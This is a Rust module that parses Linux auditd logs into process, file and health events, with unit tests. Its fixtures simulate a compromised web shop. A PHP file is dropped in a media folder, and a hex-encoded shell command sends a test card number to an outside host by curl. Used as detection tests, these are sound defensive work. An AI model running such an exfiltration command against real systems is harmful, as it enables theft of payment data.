//! Linux's audit log as auditd writes it (`audit.log`): what programs were started, and which watched files were touched.
//!
//! One event is several lines with one `audit(TIME:SERIAL)`; those that follow each other are one record. Where events
//! interleave, what an event's first part said of its program is remembered for the next. Arguments and names are
//! in quotes, or in hexadecimal where they hold a blank or a quote; the mask can't look into that, so long runs of
//! digits are left out when it is undone.

use std::borrow::Cow;
use std::collections::{BTreeMap, VecDeque};

use model::{Category, Event, Field, TimeQuality, Timestamp, conceal};

use crate::{Context, Format, Frame, ParseError, SourceState, lines, number, text};

pub(crate) struct Auditd;

const NAME: &str = "auditd";
/// Arguments of one program that are read.
const ARGUMENTS_MAX: usize = 64;
/// Longest command line in bytes.
const COMMAND_BYTES_MAX: usize = 8192;
/// Paths of one event that are read.
const PATHS_MAX: usize = 16;
/// Events of which the program is remembered until their next part comes.
const OPEN_MAX: usize = 64;
/// Processes of which the program is remembered.
const PROCESSES_MAX: usize = 8192;
/// Longest name remembered, in bytes.
const PROGRAM_BYTES_MAX: usize = 256;
/// The audit system's words for a login that isn't.
const NO_LOGIN: [&str; 3] = ["unset", "4294967295", "-1"];

/// What is remembered of one log.
#[derive(Clone, Debug, Default)]
pub(crate) struct Memory {
    open: VecDeque<(String, Program)>,
    /// Programs of processes heard of lately, and before that; the older half goes when the younger is full.
    young: BTreeMap<i64, String>,
    old: BTreeMap<i64, String>,
}

/// Who acted.
#[derive(Clone, Debug, Default)]
struct Program {
    executable: String,
    parent: String,
    user: String,
    login: String,
    process: Option<i64>,
}

impl Format for Auditd {
    fn name(&self) -> &'static str {
        NAME
    }

    fn sniff(&self, head: &[u8]) -> bool {
        lines(head, 2).all(|line| header(line).is_some()) && lines(head, 1).next().is_some()
    }

    /// Lines of one event that follow each other; of those that have more than one the last is `PROCTITLE` or `EOE`.
    fn frame(&self, bytes: &[u8], end: bool) -> Frame {
        let mut at = 0;
        let mut event: Option<&[u8]> = None;
        while let Some(length) = memchr::memchr(b'\n', bytes.get(at..).unwrap_or_default()) {
            let line = bytes.get(at..at + length).unwrap_or_default();
            let next = at + length + 1;
            match (event, header(line)) {
                (None, Some(first)) if first.is_compound() => event = Some(first.event),
                (None, _) => return Frame::Record { end: next },
                (Some(event), Some(more)) if more.event == event => {}
                (Some(_), _) => return Frame::Record { end: at },
            }
            at = next;
            if header(line).is_some_and(|header| matches!(header.kind, b"PROCTITLE" | b"EOE")) {
                return Frame::Record { end: at };
            }
        }
        // What is begun after the last line end may belong to it.
        let rest = header(bytes.get(at..).unwrap_or_default());
        match (event, rest) {
            (Some(event), Some(other)) if other.event != event => Frame::Record { end: at },
            _ if end && !bytes.is_empty() => Frame::Record { end: bytes.len() },
            _ => Frame::More,
        }
    }

    fn parse<'a>(
        &self,
        record: &'a [u8],
        _: &Context,
        state: &mut SourceState,
    ) -> Result<Event<'a>, ParseError> {
        let missing = |field| ParseError::Missing {
            format: NAME,
            field,
        };
        let mut read = Read::default();
        let first = lines(record, 1)
            .next()
            .and_then(header)
            .ok_or_else(|| missing("msg"))?;
        let time = first.time().ok_or_else(|| missing("msg"))?;
        for line in record.split(|byte| *byte == b'\n') {
            if let Some(header) = header(line).filter(|header| header.event == first.event) {
                read.line(&header);
            }
        }
        let key = text(first.event).into_owned();
        let program = state.audit.program(key, &read);
        let mut event = read.event(&text(first.kind));
        event.time = Some(time);
        event.time_quality = TimeQuality::Stated;
        event.put_text(Field::Format, NAME);
        event.put_text(Field::Logger, NAME);
        for (field, value) in [
            (Field::ProcessName, program.executable),
            (Field::ParentProcess, program.parent),
            (Field::OsUser, program.user),
            (Field::LoginUser, program.login),
        ] {
            if !value.is_empty() {
                event.put_text(field, conceal(&value));
            }
        }
        if let Some(process) = program.process {
            event.put_int(Field::ProcessId, process);
        }
        Ok(event)
    }
}

/// The beginning of a line.
struct Header<'a> {
    kind: &'a [u8],
    /// `TIME:SERIAL`.
    event: &'a [u8],
    fields: &'a [u8],
}

/// Reads `[node=… ]type=KIND msg=audit(TIME:SERIAL): `.
fn header(line: &[u8]) -> Option<Header<'_>> {
    let line = match line.strip_prefix(b"node=") {
        Some(rest) => rest.get(memchr::memchr(b' ', rest)? + 1..)?,
        None => line,
    };
    let rest = line.strip_prefix(b"type=")?;
    let (kind, rest) = rest.split_at_checked(memchr::memchr(b' ', rest)?)?;
    let rest = rest.strip_prefix(b" msg=audit(")?;
    let (event, fields) = rest.split_at_checked(memchr::memchr(b')', rest)?)?;
    let fields = fields.strip_prefix(b"):")?;
    let is_event = event
        .iter()
        .all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b':'));
    (is_event && !kind.is_empty()).then_some(Header {
        kind,
        event,
        fields,
    })
}

impl<'a> Header<'a> {
    /// Whether lines of the same event follow: those are of a system call.
    fn is_compound(&self) -> bool {
        matches!(
            self.kind,
            b"SYSCALL"
                | b"EXECVE"
                | b"CWD"
                | b"PATH"
                | b"SOCKADDR"
                | b"SOCKETCALL"
                | b"MMAP"
                | b"AVC"
                | b"FD_PAIR"
                | b"OPENAT2"
        )
    }

    fn time(&self) -> Option<Timestamp> {
        let (time, _) = self
            .event
            .split_at_checked(memchr::memchr(b':', self.event)?)?;
        let (seconds, thousandths) = time.split_at_checked(memchr::memchr(b'.', time)?)?;
        let micros = number(thousandths.get(1..)?)?.checked_mul(1000)?;
        let seconds = number(seconds).filter(|seconds| *seconds < 253_402_300_800)?;
        Some(Timestamp(
            seconds
                .checked_mul(Timestamp::SECOND)?
                .checked_add(micros)?,
        ))
    }

    /// Its `key=value` pairs; what a log that says names, too, has behind a group separator comes with them.
    fn pairs(&self) -> impl Iterator<Item = (&'a [u8], &'a [u8])> + use<'a> {
        let mut rest = self.fields;
        std::iter::from_fn(move || {
            loop {
                let begin = rest
                    .iter()
                    .position(|byte| !matches!(byte, b' ' | 0x1d | b'\'' | b'\r'))?;
                rest = rest.get(begin..)?;
                let end = match rest
                    .iter()
                    .position(|byte| matches!(byte, b'=' | b' ' | 0x1d))
                {
                    Some(end) if rest.get(end) == Some(&b'=') => end,
                    // A word that is no pair, e.g. `msg='op=…`.
                    Some(end) => {
                        rest = rest.get(end..)?;
                        continue;
                    }
                    None => return None,
                };
                let (key, value) = (rest.get(..end)?, rest.get(end + 1..)?);
                let length = match value.first() {
                    Some(b'"') => 2 + memchr::memchr(b'"', value.get(1..)?)?,
                    Some(b'\'') => 1,
                    _ => value
                        .iter()
                        .position(|byte| matches!(byte, b' ' | 0x1d | b'\''))
                        .unwrap_or(value.len()),
                };
                rest = value.get(length..)?;
                return Some((key, value.get(..length)?));
            }
        })
    }
}

/// What the lines of an event say.
#[derive(Default)]
struct Read<'a> {
    values: BTreeMap<&'a [u8], &'a [u8]>,
    is_execution: bool,
    arguments: Vec<Cow<'a, str>>,
    title: Option<Cow<'a, str>>,
    /// Each path, and what became of it.
    paths: Vec<(Cow<'a, str>, &'static str)>,
    folder: Option<Cow<'a, str>>,
}

impl<'a> Read<'a> {
    fn line(&mut self, header: &Header<'a>) {
        match header.kind {
            b"EXECVE" => {
                self.is_execution = true;
                for (key, value) in header.pairs() {
                    // `a0`, `a1`, …, or pieces of a long one: `a1[0]`; `argc` and `a1_len` are numbers of them.
                    let digits = key.strip_prefix(b"a").unwrap_or_default();
                    if !digits.first().is_some_and(u8::is_ascii_digit) || digits.ends_with(b"_len")
                    {
                        continue;
                    }
                    let is_rest = digits.ends_with(b"]") && !digits.ends_with(b"[0]");
                    if let Some(last) = self.arguments.last_mut().filter(|_| is_rest) {
                        last.to_mut().push_str(&decoded(value));
                    } else if self.arguments.len() < ARGUMENTS_MAX {
                        self.arguments.push(decoded(value));
                    }
                }
            }
            b"PROCTITLE" => {
                self.title = header
                    .pairs()
                    .find(|(key, _)| *key == b"proctitle")
                    .map(|(_, value)| decoded(value));
            }
            b"CWD" => {
                self.folder = header
                    .pairs()
                    .find(|(key, _)| *key == b"cwd")
                    .map(|(_, value)| decoded(value));
            }
            b"PATH" if self.paths.len() < PATHS_MAX => {
                let (mut name, mut change) = (None, "");
                for (key, value) in header.pairs() {
                    match (key, value) {
                        (b"name", b"(null)") => {}
                        (b"name", value) => name = Some(decoded(value)),
                        (b"nametype", b"CREATE") => change = "created",
                        (b"nametype", b"DELETE") => change = "removed",
                        (b"nametype", b"NORMAL") => change = "opened",
                        _ => {}
                    }
                }
                if let Some(name) = name.filter(|_| !change.is_empty()) {
                    self.paths.push((name, change));
                }
            }
            _ => self.values.extend(header.pairs()),
        }
    }

    /// A text that is in quotes, or in hexadecimal.
    fn value(&self, key: &str) -> Option<Cow<'a, str>> {
        self.values.get(key.as_bytes()).map(|value| decoded(value))
    }

    /// A number, or a word that is never encoded.
    fn raw(&self, key: &str) -> Option<Cow<'a, str>> {
        self.values.get(key.as_bytes()).map(|value| text(value))
    }

    /// A name where the log says names, else a number.
    fn account(&self, key: &str) -> String {
        self.value(&key.to_ascii_uppercase())
            .or_else(|| self.raw(key))
            .filter(|one| !NO_LOGIN.contains(&&**one))
            .unwrap_or_default()
            .into_owned()
    }

    fn event(&self, kind: &str) -> Event<'a> {
        if self.is_execution {
            let mut event = Event::new(Category::Process);
            event.put_text(Field::CommandLine, conceal(&self.command()));
            return event;
        }
        // Of several, one that came is what it is about, else one that went: a renamed file did both.
        let with = |wanted: &str| self.paths.iter().find(|(_, change)| *change == wanted);
        let path = with("created").or_else(|| with("removed"));
        if let Some((name, change)) = path.or(self.paths.last()) {
            let mut event = Event::new(Category::File);
            let name = match &self.folder {
                Some(folder) if !name.starts_with('/') => format!("{folder}/{name}").into(),
                _ => name.clone(),
            };
            event.put_text(Field::FilePath, conceal(&name));
            // What wasn't let happened to nothing.
            let failed = self.raw("success").is_some_and(|success| success == "no");
            event.put_text(Field::Change, if failed { "refused" } else { *change });
            return event;
        }
        let is_off = match kind {
            "DAEMON_END" | "DAEMON_ABORT" => true,
            "CONFIG_CHANGE" => {
                self.raw("audit_enabled").is_some_and(|on| on == "0")
                    || self.raw("op").is_some_and(|op| op == "remove_rule")
            }
            _ => false,
        };
        let mut event = Event::new(if is_off {
            Category::Health
        } else {
            Category::Syslog
        });
        if is_off {
            event.put_text(Field::HealthKind, "audit_off");
        }
        let said: Vec<_> = [
            ("op", self.raw("op")),
            ("acct", self.value("acct")),
            ("terminal", self.raw("terminal")),
            ("res", self.raw("res")),
            ("addr", self.raw("addr")),
            ("cmd", self.value("cmd")),
        ]
        .into_iter()
        .filter_map(|(key, value)| Some(format!("{key}={}", conceal(&value?))))
        .collect();
        event.put_text(
            Field::Message,
            format!("{kind} {}", said.join(" ")).trim_end().to_owned(),
        );
        event
    }

    fn command(&self) -> String {
        if self.arguments.is_empty() {
            return self.title.as_deref().unwrap_or_default().replace('\0', " ");
        }
        let mut command = String::new();
        for argument in &self.arguments {
            if command.len() + argument.len() > COMMAND_BYTES_MAX {
                command.push('…');
                break;
            }
            if !command.is_empty() {
                command.push(' ');
            }
            command.push_str(argument);
        }
        command
    }
}

/// A value without its quotes, or its hexadecimal undone.
fn decoded(value: &[u8]) -> Cow<'_, str> {
    if let Some(quoted) = value.strip_prefix(b"\"") {
        return text(quoted.strip_suffix(b"\"").unwrap_or(quoted));
    }
    let (pairs, rest) = value.as_chunks::<2>();
    let digit = |byte: &u8| match byte {
        b'0'..=b'9' => Some(byte - b'0'),
        b'A'..=b'F' => Some(byte - b'A' + 10),
        _ => None,
    };
    let bytes: Option<Vec<u8>> = pairs
        .iter()
        .map(|[high, low]| Some(digit(high)? * 16 + digit(low)?))
        .collect();
    match bytes {
        Some(bytes) if rest.is_empty() => String::from_utf8_lossy(&bytes).into_owned().into(),
        _ => text(value),
    }
}

impl Memory {
    /// Who acted: what this part of the event says, or an earlier part did.
    fn program(&mut self, event: String, read: &Read<'_>) -> Program {
        let executable = read
            .value("exe")
            .filter(|name| name.len() <= PROGRAM_BYTES_MAX);
        let Some(executable) = executable else {
            let before = self.open.iter().rev().find(|(of, _)| *of == event);
            return before
                .map(|(_, program)| program.clone())
                .unwrap_or_default();
        };
        let id = |key: &str| number(read.values.get(key.as_bytes())?);
        let parent = id("ppid")
            .and_then(|parent| self.program_of(parent))
            .map(str::to_owned);
        let program = Program {
            executable: executable.into_owned(),
            parent: parent.unwrap_or_default(),
            user: read.account("uid"),
            login: read.account("auid"),
            process: id("pid"),
        };
        if let Some(process) = program.process {
            self.runs(process, program.executable.clone());
        }
        if self.open.len() >= OPEN_MAX {
            self.open.pop_front();
        }
        self.open.push_back((event, program.clone()));
        program
    }

    fn program_of(&self, process: i64) -> Option<&str> {
        let known = self.young.get(&process).or_else(|| self.old.get(&process));
        known.map(String::as_str)
    }

    fn runs(&mut self, process: i64, executable: String) {
        self.old.remove(&process);
        self.young.insert(process, executable);
        if self.young.len() > PROCESSES_MAX / 2 - 1 {
            self.old = std::mem::take(&mut self.young);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::Auditd;
    use crate::{Context, Format, Frame, SourceState};
    use model::{Category, Event, Field};

    const SHELL: &str = "type=SYSCALL msg=audit(1785924930.123:8812): arch=c000003e syscall=59 success=yes exit=0 ppid=911 pid=4711 auid=4294967295 uid=33 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"shop\"\n\
        type=EXECVE msg=audit(1785924930.123:8812): argc=3 a0=\"sh\" a1=\"-c\" a2=6375726C20687474703A2F2F3139382E35312E3130302E372F203431313131313131313131313131313131\n\
        type=PATH msg=audit(1785924930.123:8812): item=0 name=\"/bin/sh\" inode=99 nametype=NORMAL\n\
        type=PROCTITLE msg=audit(1785924930.123:8812): proctitle=7368002D63\n";
    const FPM: &str = "type=SYSCALL msg=audit(1785924929.001:8811): arch=c000003e syscall=257 success=yes ppid=1 pid=911 auid=4294967295 uid=33 comm=\"php-fpm8.2\" exe=\"/usr/sbin/php-fpm8.2\" key=\"shop\"\x1dUID=\"www-data\" AUID=\"unset\"\n\
        type=CWD msg=audit(1785924929.001:8811): cwd=\"/srv/shop\"\n\
        type=PATH msg=audit(1785924929.001:8811): item=0 name=\"pub/media\" nametype=PARENT\n\
        type=PATH msg=audit(1785924929.001:8811): item=1 name=\"pub/media/x.php\" nametype=CREATE\n\
        type=PROCTITLE msg=audit(1785924929.001:8811): proctitle=\"php-fpm: pool www\"\n";

    fn records(log: &str) -> Vec<String> {
        let (mut rest, mut found) = (log.as_bytes(), Vec::new());
        while !rest.is_empty() {
            let Frame::Record { end } = Auditd.frame(rest, true) else {
                panic!("an end is an end");
            };
            found.push(String::from_utf8_lossy(&rest[..end]).into_owned());
            rest = &rest[end..];
        }
        found
    }

    fn read(log: &str) -> Vec<Event<'static>> {
        let mut state = SourceState::default();
        let records = records(log);
        records
            .iter()
            .map(|record| {
                let event = Auditd.parse(record.as_bytes(), &Context::default(), &mut state);
                event.expect("reads").into_owned()
            })
            .collect()
    }

    #[test]
    fn a_shell_of_the_web_server_has_its_parent_and_no_card_number() {
        let events = read(&format!("{FPM}{SHELL}"));
        let [file, shell] = events.as_slice() else {
            panic!("two events: {events:?}");
        };
        assert_eq!(file.category, Category::File);
        assert_eq!(
            file.text(Field::FilePath),
            Some("/srv/shop/pub/media/x.php")
        );
        assert_eq!(file.text(Field::Change), Some("created"));
        assert_eq!(file.text(Field::OsUser), Some("www-data"));
        assert_eq!(shell.category, Category::Process);
        assert_eq!(
            shell.text(Field::ParentProcess),
            Some("/usr/sbin/php-fpm8.2")
        );
        assert_eq!(shell.text(Field::ProcessName), Some("/usr/bin/dash"));
        assert_eq!(shell.text(Field::OsUser), Some("33"));
        assert_eq!(shell.text(Field::LoginUser), None);
        assert_eq!(
            shell.text(Field::CommandLine),
            Some("sh -c curl http://198.51.100.7/ …")
        );
    }

    #[test]
    fn what_interleaves_is_joined_by_what_is_remembered() {
        let lines: Vec<_> = SHELL.split_inclusive('\n').collect();
        let other =
            "type=SYSCALL msg=audit(1785924930.124:8813): pid=5 uid=0 exe=\"/usr/sbin/cron\"\n";
        let events = read(&[lines[0], other, lines[1], lines[2], lines[3]].concat());
        let told: Vec<_> = events
            .iter()
            .map(|event| event.text(Field::ProcessName).unwrap_or_default())
            .collect();
        assert_eq!(told, ["/usr/bin/dash", "/usr/sbin/cron", "/usr/bin/dash"]);
        assert_eq!(events[2].category, Category::Process);
    }

    #[test]
    fn an_event_waits_for_its_last_line_and_no_longer() {
        let whole = FPM.as_bytes();
        for length in 0..whole.len() {
            assert_eq!(
                Auditd.frame(&whole[..length], false),
                Frame::More,
                "{length}"
            );
        }
        assert_eq!(
            Auditd.frame(whole, false),
            Frame::Record { end: whole.len() }
        );
        let alone = b"type=DAEMON_END msg=audit(1785924931.001:9): op=terminate auid=0\ntype=";
        assert_eq!(Auditd.frame(alone, false), Frame::Record { end: 65 });
    }

    #[test]
    fn switching_the_log_off_is_health() {
        for (line, expected) in [
            (
                "type=CONFIG_CHANGE msg=audit(1785924931.001:9): audit_enabled=0 old=1 auid=0 res=1\n",
                Category::Health,
            ),
            (
                "type=CONFIG_CHANGE msg=audit(1785924931.001:9): op=remove_rule key=\"shop\" res=1\n",
                Category::Health,
            ),
            (
                "type=CONFIG_CHANGE msg=audit(1785924931.001:9): op=add_rule key=\"shop\" res=1\n",
                Category::Syslog,
            ),
            (
                "type=USER_LOGIN msg=audit(1785924931.001:9): pid=1 uid=0 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" addr=192.0.2.4 res=failed'\n",
                Category::Syslog,
            ),
        ] {
            let events = read(line);
            assert_eq!(events.len(), 1);
            assert_eq!(events[0].category, expected, "{line}");
        }
        let login = read(
            "type=USER_LOGIN msg=audit(1.001:9): uid=0 msg='op=login acct=\"root\" addr=192.0.2.4 res=failed'\n",
        );
        assert_eq!(
            login[0].text(Field::Message),
            Some("USER_LOGIN op=login acct=root res=failed addr=192.0.2.4")
        );
    }

    #[test]
    fn what_was_refused_or_renamed_is_told_as_that() {
        let log = |success: &str| {
            format!(
                "type=SYSCALL msg=audit(1.001:9): success={success} pid=3 uid=33 exe=2F746D702F342034313131313131313131313131313131\n\
                 type=PATH msg=audit(1.001:9): item=2 name=\"/srv/a.tmp\" nametype=DELETE\n\
                 type=PATH msg=audit(1.001:9): item=3 name=\"/srv/a.php\" nametype=CREATE\n\
                 type=PROCTITLE msg=audit(1.001:9): proctitle=61\n"
            )
        };
        for (success, expected) in [("yes", "created"), ("no", "refused")] {
            let events = read(&log(success));
            assert_eq!(events[0].text(Field::Change), Some(expected));
            assert_eq!(events[0].text(Field::FilePath), Some("/srv/a.php"));
            // A program's name may be in hexadecimal, too.
            assert_eq!(events[0].text(Field::ProcessName), Some("/tmp/…"));
        }
    }

    #[test]
    fn a_program_that_goes_on_is_remembered_longer_than_many_that_came_and_went() {
        let mut memory = super::Memory::default();
        for process in 0..3 * super::PROCESSES_MAX as i64 {
            memory.runs(process + 10, "/bin/true".to_owned());
            if process % 100 == 0 {
                memory.runs(1, "/usr/sbin/php-fpm".to_owned());
            }
            assert!(memory.young.len() + memory.old.len() <= super::PROCESSES_MAX);
        }
        assert_eq!(memory.program_of(1), Some("/usr/sbin/php-fpm"));
        assert_eq!(memory.program_of(11), None);
    }
}
